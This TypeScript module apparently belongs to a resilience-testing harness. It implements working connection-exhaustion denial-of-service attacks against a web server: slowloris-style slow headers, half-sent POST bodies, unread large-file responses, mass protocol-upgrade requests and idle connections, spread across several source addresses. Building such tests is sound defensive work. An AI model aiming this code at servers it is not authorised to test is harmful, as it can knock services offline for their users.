import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { ask } from '../http.ts';
import { headOf, Tally, type Assault, type Attack, type Outcome } from './attack.ts';

const HALF_OPEN = 300;
const MORE_A_SECOND = 20;
const UNREAD = { connections: 170, requests: 24 };
const UPGRADES = 1_100;
const IDLE = 1_000;
const SLOW_HEADS = 300;

/** Requests whose bodies never arrive in full: 300 at once, then 20 more each second. */
export const halfOpenBodies: Attack = (assault) => {
  const headers = { 'content-type': 'application/json', 'content-length': '100' };
  const head = `${headOf(assault.url, 'POST /rest/connect', headers)}{"accountN`;
  return hold(assault, {
    heads: [[HALF_OPEN, head]],
    everyMs: 1_000 / MORE_A_SECOND,
    then: (raw) => raw.open(1, head),
  });
};

/** 170 connections that request the site's largest file 24 times each and read nothing. */
export const unreadAnswers: Attack = (assault) => askForFile(assault, 'nothing');

/** Like `unreadAnswers`, but each connection reads ten bytes a second. */
export const barelyReadAnswers: Attack = (assault) => askForFile(assault, 'sips');

/** 1,100 connections that request another protocol, by `Upgrade` or CONNECT, at an address without a page. */
export const upgrades: Attack = (assault) => {
  const { url } = assault;
  const upgradeTo = (name: string, more = {}) =>
    headOf(url, 'GET /zz', { connection: 'Upgrade', upgrade: name, ...more });
  const webSocket = { 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-version': '13' };
  const heads = [
    upgradeTo('x'),
    upgradeTo('websocket', webSocket),
    upgradeTo('h2c', { connection: 'Upgrade, HTTP2-Settings', 'http2-settings': 'AAMAAABkAAQAAP__' }),
    headOf(url, `CONNECT ${new URL(url).host}`),
  ];
  return hold(assault, { heads: heads.map((head) => [UPGRADES / heads.length, head]) });
};

/** 1,000 idle connections: half of them after one answer, the others from the start. */
export const idleConnections: Attack = (assault) =>
  hold(assault, {
    heads: [
      [IDLE / 2, headOf(assault.url, 'GET /robots.txt')],
      [IDLE / 2, ''],
    ],
  });

/** 300 connections that send a request head one character a second. */
export const slowHeads: Attack = (assault) =>
  hold(assault, {
    heads: [[SLOW_HEADS, `GET / HTTP/1.1\r\nhost: ${new URL(assault.url).host}\r\nx-a: `]],
    everyMs: 1_000,
    then: (raw) => raw.write('a'),
  });

async function askForFile(assault: Assault, reads: Reading): Promise<Outcome> {
  const file = await largestFileOf(assault.url);
  const question = headOf(assault.url, `GET ${file}`, { 'accept-encoding': 'identity' });
  const heads = [[UNREAD.connections, question.repeat(UNREAD.requests)]] as const;
  if (reads === 'nothing') return hold(assault, { heads, reads });
  return hold(assault, { heads, reads, everyMs: 1_000, then: (raw) => raw.sip() });
}

type Holding = {
  /** The bytes that connections send once open, and the number of connections for each. */
  readonly heads: readonly (readonly [count: number, head: string])[];
  readonly reads?: Reading;
  /** Called every `everyMs`. */
  readonly then?: (raw: RawConnections) => void;
  readonly everyMs?: number;
};

/** Opens connections, calls `then` every `everyMs`, and closes them when the attack is over. */
async function hold(assault: Assault, { heads, reads = 'all', everyMs, then }: Holding): Promise<Outcome> {
  const raw = new RawConnections(assault, reads);
  for (const [count, head] of heads) raw.open(count, head);
  const timer = then && setInterval(() => then(raw), everyMs);
  await wait(assault.ms);
  clearInterval(timer);
  return raw.close();
}

/** A page with islands, which loads the framework's scripts. */
const PAGE = '/simulator';

/** The path of the largest script of a site. */
async function largestFileOf(url: string): Promise<string> {
  const page = (await ask(new URL(PAGE, url))).body;
  const files = [...page.matchAll(/"(\/_next\/static\/[^"?]+\.js)/g)].map(([, file = '']) => file);
  const sizes = await Promise.all(files.map(async (file) => (await ask(new URL(file, url))).bytes.length));
  const largest = files[sizes.indexOf(Math.max(...sizes))];
  if (largest === undefined) throw new Error(`${PAGE} of ${url} names no script`);
  return largest;
}

/** How long unread connections are read at the end to count their answers, in milliseconds. */
const LOOK_MS = 200;

/** Bytes that a barely reading client takes at a time. */
const SIP_BYTES = 10;

/** The longest start of an answer that names its status: `HTTP/1.1 200`. */
const STATUS_BYTES = 12;

/** How a client reads: everything, nothing before the end, or ten bytes at each `sip`. */
type Reading = 'all' | 'nothing' | 'sips';

type Raw = { readonly socket: Socket; start: string };

/** Raw sockets from the attack's addresses in turn, as no client library misbehaves like this. */
class RawConnections {
  readonly #assault: Assault;
  readonly #reads: Reading;
  readonly #tally = new Tally();
  readonly #all = new Set<Raw>();
  #made = 0;

  constructor(assault: Assault, reads: Reading) {
    this.#assault = assault;
    this.#reads = reads;
  }

  /** Opens `count` connections, each of which sends `head` once connected. */
  open(count: number, head: string): void {
    for (let at = 0; at < count; at += 1) this.#openOne(head);
  }

  /** Writes a text to every open connection. */
  write(text: string): void {
    for (const { socket } of this.#all) if (socket.writable && !socket.connecting) socket.write(text);
  }

  /** Lets every connection that reads in sips take `SIP_BYTES`. */
  sip(): void {
    for (const { socket } of this.#all) if (!socket.connecting) socket.resume();
  }

  /** Closes the connections and returns their outcome. */
  async close(): Promise<Outcome> {
    for (const { socket } of this.#all) socket.resume();
    await wait(LOOK_MS);
    const { outcome } = this.#tally;
    outcome.unanswered = [...this.#all].filter(({ start }) => start.length < STATUS_BYTES).length;
    const sockets = [...this.#all].map(({ socket }) => socket);
    this.#all.clear();
    const closed = sockets.map((socket) => new Promise((resolve) => socket.once('close', resolve)));
    for (const socket of sockets) socket.destroy();
    await Promise.all(closed);
    return outcome;
  }

  #openOne(head: string): void {
    const { url, from } = this.#assault;
    const { hostname, port } = new URL(url);
    const localAddress = from[this.#made++ % from.length];
    // Replaces the `data` events, with exactly the bytes that were read.
    const callback = (bytes: number, buffer: Uint8Array) => {
      this.#read(raw, Buffer.from(buffer.subarray(0, bytes)));
      return false;
    };
    const onread = this.#reads === 'sips' ? { buffer: Buffer.alloc(SIP_BYTES), callback } : undefined;
    const socket = connect({ host: hostname, port: Number(port), localAddress, onread });
    if (this.#reads !== 'all') socket.pause();
    const raw: Raw = { socket, start: '' };
    this.#all.add(raw);
    this.#listen(raw, head);
  }

  #listen(raw: Raw, head: string): void {
    const { socket } = raw;
    let code: string | undefined;
    socket.once('connect', () => {
      this.#tally.opened();
      socket.once('close', () => this.#tally.closed());
      socket.write(head);
    });
    socket.on('data', (chunk) => this.#read(raw, chunk));
    socket.on('error', (error: NodeJS.ErrnoException) => (code = error.code));
    socket.once('close', () => {
      if (this.#all.delete(raw) && raw.start.length < STATUS_BYTES) this.#tally.failed(code);
    });
  }

  /** Counts the first answer of a connection once its status is known. */
  #read(raw: Raw, chunk: Buffer): void {
    if (raw.start.length >= STATUS_BYTES) return;
    raw.start += chunk.toString('latin1', 0, STATUS_BYTES);
    if (raw.start.length < STATUS_BYTES) return;
    this.#tally.answered(Number(/^HTTP\/1\.[01] (\d{3})/.exec(raw.start)?.[1] ?? 0));
  }
}
